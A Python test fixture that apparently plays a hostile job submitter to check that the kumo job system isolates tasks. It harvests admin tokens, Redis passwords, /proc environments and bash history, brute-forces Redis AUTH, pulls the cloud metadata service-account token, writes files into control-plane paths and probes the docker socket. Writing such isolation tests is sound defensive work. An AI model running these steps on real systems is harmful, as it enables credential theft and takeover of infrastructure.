"""A hostile submitter's task: it tries everything a task could use to take over kumo, and reports
what it got, so the test can check that nothing leaked and nothing was written.

Usage: hostile-task.py '<json hints>' with hints: dataDir, repoDir, redisPort, metadataUrl, apiUrl.
It knows where things are (a well-informed attacker); it prints all it could read on stdout (the
task's log) and in its result, which any viewer of the job can read.
"""
import glob
import json
import os
import re
import socket
import sys
import urllib.request

hints = json.loads(sys.argv[1])
found = []        # everything read that could be a secret
attempts = {}     # what each trick answered


def note(what, value):
    attempts[what] = value if isinstance(value, str) else repr(value)


def read(path, limit=65536):
    try:
        with open(path, "rb") as f:
            data = f.read(limit).decode("utf-8", "replace")
        found.append({"path": path, "data": data})
        return data
    except Exception as e:  # noqa: BLE001 - every failure is an answer here
        note("read " + path, type(e).__name__)
        return None


# 1. Files: the control plane's data folder, the VM's worker.env, the repo, relative .kumo paths.
data_dir = hints["dataDir"]
for p in [os.path.join(data_dir, n) for n in ("admin-token", "redis-password", "redis/redis.conf", "redis.pid")] + glob.glob(
    os.path.join(data_dir, "redis", "**"), recursive=True
) + ["/etc/kumo/worker.env", ".kumo/admin-token", os.path.join(hints["repoDir"], ".kumo", "admin-token"), "/root/.bash_history"]:
    if not os.path.isdir(p):
        read(p)
note("listdir dataDir", str(sorted(os.listdir(data_dir))) if os.access(data_dir, os.R_OK) else "denied")

# 2. Every process's environment and command line this task can see (its namespace's, if isolated).
pids = [p for p in os.listdir("/proc") if p.isdigit()]
note("visible pids", str(len(pids)))
for pid in pids + ["self/../1"]:
    for what in ("environ", "cmdline"):
        read("/proc/%s/%s" % (pid, what))
    try:
        note("cwd of " + pid, os.readlink("/proc/%s/cwd" % pid))
    except Exception as e:  # noqa: BLE001
        note("cwd of " + pid, type(e).__name__)
read("/proc/%d/environ" % os.getppid())
note("own env", " ".join(sorted(os.environ)))

# 3. Redis: without a password, and with every secret-looking string found above.
candidates = {""}
for f in found:
    candidates.update(re.findall(r"kumo_[A-Za-z0-9_-]{16,}", f["data"]))
    candidates.update(re.findall(r"requirepass\s+(\S+)", f["data"]))
    candidates.update(re.findall(r"redis://[^:@/\s]*:([^@\s]+)@", f["data"]))
for i, pw in enumerate(sorted(candidates)):
    try:
        s = socket.create_connection(("127.0.0.1", int(hints["redisPort"])), timeout=3)
        cmds = (("AUTH %s\r\n" % pw) if pw else "") + "SET hostile:%d owned\r\nCONFIG GET requirepass\r\nQUIT\r\n" % i
        s.sendall(cmds.encode())
        s.settimeout(3)
        answer = b""
        try:
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                answer += chunk
        except socket.timeout:
            pass
        note("redis with candidate %d" % i, answer.decode("utf-8", "replace")[:300])
    except Exception as e:  # noqa: BLE001
        note("redis with candidate %d" % i, type(e).__name__)

# 4. The metadata server's access token (on GCE: the VM's service account).
for url in [hints["metadataUrl"] + "/computeMetadata/v1/instance/service-accounts/default/token", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"]:
    try:
        req = urllib.request.Request(url, headers={"Metadata-Flavor": "Google"})
        body = urllib.request.urlopen(req, timeout=3).read().decode()
        found.append({"path": url, "data": body})
        note("metadata " + url, "answered")
    except Exception as e:  # noqa: BLE001
        note("metadata " + url, type(e).__name__)

# 5. Writes where the control plane lives, and the docker socket.
for p in [os.path.join(data_dir, "hostile"), os.path.join(data_dir, "redis", "hostile"), os.path.join(hints["repoDir"], "hostile-was-here"), "/etc/kumo/hostile"]:
    try:
        with open(p, "w") as f:
            f.write("owned")
        note("write " + p, "WROTE")
    except Exception as e:  # noqa: BLE001
        note("write " + p, type(e).__name__)
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("/var/run/docker.sock")
    note("docker socket", "CONNECTED")
except Exception as e:  # noqa: BLE001
    note("docker socket", type(e).__name__)
note("uid", str(os.getuid()))
note("groups", str(os.getgroups()))

# Everything, into the log and the result: what a viewer of the job would see.
for f in found:
    print("READ %s: %s" % (f["path"], f["data"][:2000]))
print("::kumo::result " + json.dumps({"found": [{"path": f["path"], "data": f["data"][:2000]} for f in found][:200], "attempts": attempts}))
